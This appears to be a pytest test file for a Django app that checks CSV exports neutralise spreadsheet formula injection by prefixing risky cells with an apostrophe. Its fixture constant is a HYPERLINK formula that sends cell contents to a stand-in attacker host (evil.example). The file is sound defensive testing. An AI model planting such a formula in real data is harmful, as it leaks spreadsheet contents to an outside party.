"""Finding 9: one CSV cell rule for every export: a cell a spreadsheet would evaluate gets an apostrophe."""

import csv

import pytest
from django.test import Client

from accounts.models import AuditEvent
from accounts.tests.factories import PASSWORD as PERSON_PASSWORD
from accounts.tests.factories import StaffFactory
from dockspace.csv_cells import csv_cell, csv_cell_value
from mail.tests.factories import make_mailbox, run

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'Ann", "''Ann"),
        ("'", "''"),
        ("Ann Lee", "Ann Lee"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (5, "5"),
    ],
)
def test_a_cell_is_neutralised_only_when_it_starts_like_a_formula(value, cell):
    assert csv_cell(value) == cell
    assert csv_cell_value(cell) == ("" if value is None else str(value))


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.mark.django_db
def test_mailbox_export_neutralises_a_formula_chosen_as_a_self_service_name(tmp_path):
    mallory = make_mailbox("mallory@example.com", password=PERSON_PASSWORD)
    make_mailbox("ann@example.com", full_name="Ann Lee")
    browser = Client()
    browser.post("/login/", {"email": "mallory@example.com", "password": PERSON_PASSWORD})
    assert browser.post("/profile/edit/", {"full_name": FORMULA}).status_code == 302
    mallory.person.refresh_from_db()
    assert mallory.person.full_name == FORMULA  # the name itself is stored as typed

    path = tmp_path / "people.csv"
    run("mailbox", "export", "--csv", str(path))

    rows = {row[0]: row for row in read_rows(path)[1:]}
    assert rows["mallory@example.com"][1] == "'" + FORMULA
    assert rows["ann@example.com"][1] == "Ann Lee"  # positive control: ordinary names unchanged


@pytest.mark.django_db
def test_the_audit_export_uses_the_same_cell_rule():
    AuditEvent.objects.create(action="test", description=FORMULA, target_label="@evil")
    AuditEvent.objects.create(action="test", description="plain words", target_label="ann@example.com")
    staff = StaffFactory(email="root@example.com")
    browser = Client()
    browser.post("/login/", {"email": staff.email, "password": PERSON_PASSWORD})
    response = browser.get("/admin/accounts/auditevent/export/?action__exact=test")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(text.splitlines()))
    assert ["'" + FORMULA, "'@evil"] in [[row[7], row[6]] for row in rows]
    assert ["plain words", "ann@example.com"] in [[row[7], row[6]] for row in rows]
